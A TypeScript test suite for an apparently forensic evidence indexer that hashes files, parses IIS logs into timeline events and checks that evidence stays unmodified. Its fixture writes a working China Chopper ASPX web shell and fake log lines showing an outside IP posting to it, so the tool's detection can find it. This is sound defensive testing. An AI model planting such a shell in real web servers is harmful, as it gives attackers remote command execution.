import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { openCaseDb } from '../../../electron/case/db.ts';
import { IndexCoordinator } from '../../../electron/ingest/coordinator.ts';
import { CaseService } from '../../../electron/service.ts';
import { newCase } from '../../helpers/case.ts';
import { tmpDir } from '../../helpers/tmp.ts';

const IIS = [
  '#Software: Microsoft Internet Information Services 10.0',
  '#Version: 1.0',
  '#Date: 2021-03-02 00:00:01',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
  '2021-03-02 02:11:32 10.0.0.5 POST /owa/auth/shell.aspx - 443 - 165.232.154.116 python-requests/2.25.1 - 200 0 0 31',
  '2021-03-02 02:12:02 10.0.0.5 GET /owa/auth/logon.aspx url=%2fowa%2f 443 - 10.0.0.20 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15',
  '2021-03-02 02:13:40 10.0.0.5 POST /ecp/y.js - 443 - 165.232.154.116 ExchangeServicesClient/0.0.0.0 - 200 0 0 46',
  '',
].join('\r\n');

function makeEvidence(root: string): void {
  const w3 = path.join(root, 'C/inetpub/logs/LogFiles/W3SVC1');
  fs.mkdirSync(w3, { recursive: true });
  fs.writeFileSync(path.join(w3, 'u_ex210302.log'), IIS);
  const web = path.join(root, 'C/inetpub/wwwroot/aspnet_client');
  fs.mkdirSync(web, { recursive: true });
  fs.writeFileSync(path.join(web, 'shell.aspx'), '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>');
  fs.writeFileSync(path.join(root, 'C/empty.txt'), '');
  fs.symlinkSync('.', path.join(root, 'C/loop'));
  fs.symlinkSync('/etc', path.join(root, 'C/outside'));
  for (const f of ['C/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log', 'C/inetpub/wwwroot/aspnet_client/shell.aspx', 'C/empty.txt']) {
    fs.utimesSync(path.join(root, f), new Date('2021-03-03T04:05:06Z'), new Date('2021-03-02T02:10:00Z'));
  }
}

async function indexOnce(casePath: string): Promise<ReturnType<IndexCoordinator['run']>> {
  return new IndexCoordinator({ casePath, detect: false, workers: 1 }).run();
}

test('indexes a small evidence folder: hashes equal sha256sum, IIS lines and file times become events, links are not followed', async (t) => {
  const dir = tmpDir(t);
  const ev = path.join(dir, 'evidence');
  makeEvidence(ev);
  const casePath = await newCase(dir, ev);

  const s = await indexOnce(casePath);
  assert.equal(s.filesSeen, 3);
  assert.equal(s.filesIndexed, 3);
  const db = openCaseDb(casePath, { readonly: true });
  const bySource = Object.fromEntries((db.prepare('SELECT source, count(*) AS n FROM events GROUP BY source').all() as Array<{ source: string; n: number }>).map((r) => [r.source, r.n]));
  assert.equal(bySource.iis, 3);
  const hasBirth = (db.prepare('SELECT count(*) AS n FROM files WHERE btime IS NOT NULL').get() as { n: number }).n;
  assert.equal(bySource.filesystem, 3 * 2 + hasBirth);
  const files = db.prepare('SELECT rel_path, orig_path, sha256, md5, sha1, kind, state FROM files ORDER BY rel_path').all() as Array<Record<string, string>>;
  for (const f of files) {
    const expected = execFileSync('sha256sum', [path.join(ev, f.rel_path)]).toString().split(' ')[0];
    assert.equal(f.sha256, expected, f.rel_path);
    assert.equal(f.md5, execFileSync('md5sum', [path.join(ev, f.rel_path)]).toString().split(' ')[0]);
    assert.equal(f.state, 'done');
  }
  assert.equal(files.find((f) => f.rel_path.endsWith('shell.aspx'))!.orig_path, 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx');
  // (Access-time notes depend on the file system's atime policy: see the issue-11 tests.)
  const warnings = (db.prepare("SELECT file, message FROM warnings WHERE message NOT LIKE 'access times of %' ORDER BY file").all() as Array<{ file: string; message: string }>);
  assert.deepEqual(warnings.map((w) => w.file), ['C/loop', 'C/outside']);
  assert.match(warnings[0].message, /symbolic link not followed/);
  const ev1 = db.prepare("SELECT ts, line, offset, ip, status, url FROM events WHERE source = 'iis' ORDER BY line").get() as Record<string, number | string>;
  assert.deepEqual(ev1, { ts: Date.UTC(2021, 2, 2, 2, 11, 32) * 1000, line: 5, offset: IIS.indexOf('2021-03-02 02:11:32'), ip: '165.232.154.116', status: 200, url: '/owa/auth/shell.aspx' });
  const mod = db.prepare("SELECT ts FROM events WHERE source = 'filesystem' AND ts_desc = 'File Modified' AND message LIKE '%shell.aspx%'").get() as { ts: number };
  assert.equal(mod.ts, Date.UTC(2021, 2, 2, 2, 10, 0) * 1000);
  db.close();
});

test('indexing twice adds nothing; a changed file is re-read; a removed file leaves the case', async (t) => {
  const dir = tmpDir(t);
  const ev = path.join(dir, 'evidence');
  makeEvidence(ev);
  const casePath = await newCase(dir, ev);
  const count = (): { events: number; fts: number; files: number; warnings: number } => {
    const db = openCaseDb(casePath, { readonly: true });
    const n = (sql: string): number => (db.prepare(sql).get() as { n: number }).n;
    const r = { events: n('SELECT count(*) AS n FROM events'), fts: n("SELECT count(*) AS n FROM events_fts WHERE events_fts MATCH '\"2021\" OR \"bytes\" OR \"POST\" OR \"GET\"'"), files: n('SELECT count(*) AS n FROM files'), warnings: n("SELECT count(*) AS n FROM warnings WHERE message NOT LIKE 'access times of %'") };
    db.close();
    return r;
  };
  await indexOnce(casePath);
  const first = count();
  const again = await indexOnce(casePath);
  assert.equal(again.eventsAdded, 0);
  assert.equal(again.filesUnchanged, 3);
  assert.deepEqual(count(), first);

  const log = path.join(ev, 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log');
  fs.appendFileSync(log, '2021-03-02 02:14:00 10.0.0.5 POST /owa/auth/shell.aspx - 443 - 165.232.154.116 python-requests/2.25.1 - 200 0 0 12\r\n');
  const changed = await indexOnce(casePath);
  assert.equal(changed.filesIndexed, 1);
  assert.equal(count().events, first.events + 1);

  fs.rmSync(path.join(ev, 'C/empty.txt'));
  const removed = await indexOnce(casePath);
  assert.equal(removed.filesRemoved, 1);
  assert.equal(count().files, 2);
});

test('bad input becomes warnings with path and line/offset, and the run completes', async (t) => {
  const dir = tmpDir(t);
  const ev = path.join(dir, 'evidence');
  const w3 = path.join(ev, 'C/inetpub/logs/LogFiles/W3SVC1');
  fs.mkdirSync(w3, { recursive: true });
  // A truncated log: the last line stops mid-field.
  fs.writeFileSync(path.join(w3, 'u_ex210301.log'), IIS + '2021-03-02 02:15:00 10.0.0.5 GET /owa/');
  // A binary file named .log in an IIS folder.
  fs.writeFileSync(path.join(w3, 'u_ex210303.log'), Buffer.concat([Buffer.from('#Fields: date time c-ip\r\n'), Buffer.alloc(4096, 0), Buffer.from([0xff, 0xfe, 0x00, 0x01])]));
  // A 20 MB single line after a valid header and one good line.
  const good = IIS.split('\r\n').slice(0, 5).join('\r\n') + '\r\n';
  fs.writeFileSync(path.join(w3, 'u_ex210304.log'), good + 'x'.repeat(20 * 1024 * 1024) + '\r\n' + IIS.split('\r\n')[6] + '\r\n');
  // A symbolic link loop.
  fs.symlinkSync('..', path.join(w3, 'loop'));
  const casePath = await newCase(dir, ev);
  const s = await indexOnce(casePath);
  assert.equal(s.filesIndexed, 3);
  const db = openCaseDb(casePath, { readonly: true });
  const warnings = db.prepare('SELECT file, line, offset, message FROM warnings ORDER BY file, id').all() as Array<{ file: string; line: number | null; offset: number | null; message: string }>;
  const about = (name: string) => warnings.filter((w) => w.file.endsWith(name));
  assert.ok(about('u_ex210301.log').some((w) => w.line === 8 && w.offset !== null), 'truncated line warned with its line and offset');
  assert.ok(about('u_ex210303.log').length >= 1 && about('u_ex210303.log').every((w) => w.offset !== null || w.line !== null), 'binary .log warned with a position');
  const long = about('u_ex210304.log');
  assert.ok(long.some((w) => w.line === 6 && w.offset === Buffer.byteLength(good)), `20 MB line warned at line 6: ${JSON.stringify(long)}`);
  assert.ok(about('W3SVC1/loop').some((w) => /symbolic link/.test(w.message)));
  const n = (sql: string): number => (db.prepare(sql).get() as { n: number }).n;
  assert.equal(n("SELECT count(*) AS n FROM events e JOIN files f ON f.id = e.file_id WHERE f.rel_path LIKE '%u_ex210301.log' AND e.source = 'iis'"), 3, 'the intact lines of the truncated log are kept');
  assert.equal(n("SELECT count(*) AS n FROM events e JOIN files f ON f.id = e.file_id WHERE f.rel_path LIKE '%u_ex210304.log' AND e.source = 'iis'"), 2, 'lines around the 20 MB line are kept');
  assert.equal(n("SELECT count(*) AS n FROM files WHERE sha256 IS NULL"), 0, 'every file hashed');
  db.close();
});

test('an unreadable file becomes a warning naming it, and the rest is indexed (run as an unprivileged user)', { skip: process.getuid?.() !== 0 ? 'needs root to run the index as nobody' : false }, async (t) => {
  const dir = tmpDir(t);
  fs.chmodSync(dir, 0o755);
  const ev = path.join(dir, 'evidence');
  makeEvidence(ev);
  const secret = path.join(ev, 'C/secret.bin');
  fs.writeFileSync(secret, 'top secret');
  fs.chmodSync(secret, 0o600);
  const caseDir = path.join(dir, 'case');
  fs.mkdirSync(caseDir, { mode: 0o777 });
  fs.chmodSync(caseDir, 0o777);
  const casePath = path.join(caseDir, 'case.loupe');
  const bin = path.resolve(import.meta.dirname, '../../../bin/loupe.mjs');
  const asNobody = { uid: 65534, gid: 65534, encoding: 'utf8' as const, env: { ...process.env, HOME: caseDir } };
  // The checkout itself must be readable by nobody (it is not when cloned under a private home folder).
  const probe = spawnSync(process.execPath, ['-e', `require('fs').readFileSync(${JSON.stringify(bin)})`], asNobody);
  if (probe.status !== 0) { t.skip(`the checkout is not readable by user nobody (${/E[A-Z]+/.exec(probe.stderr)?.[0] ?? 'error'})`); return; }
  const r = spawnSync(process.execPath, [bin, 'index', ev, '--case', casePath, '--quiet'], asNobody);
  assert.equal(r.status, 0, r.stderr);
  const db = openCaseDb(casePath, { readonly: true });
  const w = db.prepare("SELECT message FROM warnings WHERE file = 'C/secret.bin'").all() as Array<{ message: string }>;
  assert.equal(w.length, 1);
  assert.match(w[0].message, /not readable \(EACCES\)/);
  assert.equal((db.prepare("SELECT count(*) AS n FROM files WHERE state = 'done'").get() as { n: number }).n, 3);
  db.close();
});

test('an evidence folder that is not reachable (an unplugged drive) keeps its files, events and findings, with a warning', async (t) => {
  const dir = tmpDir(t);
  const ev = path.join(dir, 'evidence');
  makeEvidence(ev);
  const casePath = await newCase(dir, ev);
  const first = await new IndexCoordinator({ casePath, workers: 1 }).run();
  const counts = (): { events: number; findings: number } => {
    const db = openCaseDb(casePath, { readonly: true });
    const n = (sql: string): number => (db.prepare(sql).get() as { n: number }).n;
    const r = { events: n('SELECT count(*) AS n FROM events'), findings: n('SELECT count(*) AS n FROM findings') };
    db.close();
    return r;
  };
  const before = counts();
  assert.ok(first.findings > 0 && before.findings === first.findings, 'the China Chopper shell is found');
  fs.renameSync(ev, ev + '-unplugged');
  const s = await new IndexCoordinator({ casePath, workers: 1 }).run();
  assert.equal(s.filesRemoved, 0);
  assert.deepEqual(counts(), before, 'events and findings kept');
  const db = openCaseDb(casePath, { readonly: true });
  const messages = (db.prepare('SELECT message FROM warnings WHERE file = ?').all(ev) as Array<{ message: string }>).map((w) => w.message);
  db.close();
  assert.ok(messages.some((m) => /evidence folder not reachable/.test(m)), messages.join('; '));
  assert.ok(messages.some((m) => /detections not re-run/.test(m)));
  fs.renameSync(ev + '-unplugged', ev);
  const back = await new IndexCoordinator({ casePath, workers: 1 }).run();
  assert.equal(back.filesUnchanged, 3);
  assert.deepEqual(counts(), before);
});

test('indexing, verifying and previewing leave the evidence files\' access times as they were', async (t) => {
  const dir = tmpDir(t);
  const ev = path.join(dir, 'evidence');
  makeEvidence(ev);
  const old = new Date('2021-03-03T04:05:06Z');
  // Does a plain read update access times on this file system at all? (not under noatime)
  const control = path.join(dir, 'control.txt');
  fs.writeFileSync(control, 'x');
  fs.utimesSync(control, old, old);
  fs.readFileSync(control);
  if (fs.statSync(control).atimeMs === old.getTime()) { t.skip('this file system does not update access times on read (noatime)'); return; }
  const files = ['C/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log', 'C/inetpub/wwwroot/aspnet_client/shell.aspx', 'C/empty.txt'].map((f) => path.join(ev, f));
  for (const f of files) fs.utimesSync(f, old, new Date('2021-03-02T02:10:00Z'));
  const casePath = await newCase(dir, ev);
  await new IndexCoordinator({ casePath, workers: 1 }).run();
  const svc = new CaseService({ casePath });
  await svc.verify();
  const shell = (await svc.listFiles({ text: 'shell.aspx' })).rows[0];
  await svc.previewFile({ id: shell.id });
  svc.close();
  for (const f of files) assert.equal(fs.statSync(f).atimeMs, old.getTime(), `access time of ${path.relative(ev, f)} changed`);
});

/** Every entry under `root`: path, type, size, modification time and content hash (what "never modified" means). */
function snapshot(root: string): string[] {
  const out: string[] = [];
  const walk = (dir: string): void => {
    for (const name of fs.readdirSync(dir).sort()) {
      const p = path.join(dir, name);
      const st = fs.lstatSync(p);
      const hash = st.isFile() ? crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex') : '';
      out.push(`${path.relative(root, p)} ${st.mode} ${st.size} ${st.mtimeMs} ${hash}`);
      if (st.isDirectory()) walk(p);
    }
  };
  walk(root);
  return out;
}

test('evidence is opened read-only and never modified: index, re-index, verify, preview, report and every export leave each evidence file and folder as it was', async (t) => {
  const dir = tmpDir(t);
  const ev = path.join(dir, 'evidence');
  makeEvidence(ev);
  const before = snapshot(ev);
  const casePath = await newCase(dir, ev);
  await new IndexCoordinator({ casePath, workers: 1 }).run();
  await new IndexCoordinator({ casePath, workers: 1 }).run();
  const svc = new CaseService({ casePath });
  try {
    await svc.verify();
    for (const f of (await svc.listFiles({})).rows) await svc.previewFile({ id: f.id });
    await svc.renderReportHtml({});
    for (const format of ['csv', 'timesketch', 'timesketch-csv', 'stix', 'ioc-csv', 'html'] as const) await svc.exportTo({ format, path: path.join(dir, `out.${format}`) });
  } finally {
    svc.close();
  }
  assert.deepEqual(snapshot(ev), before, 'the evidence folder changed');
});
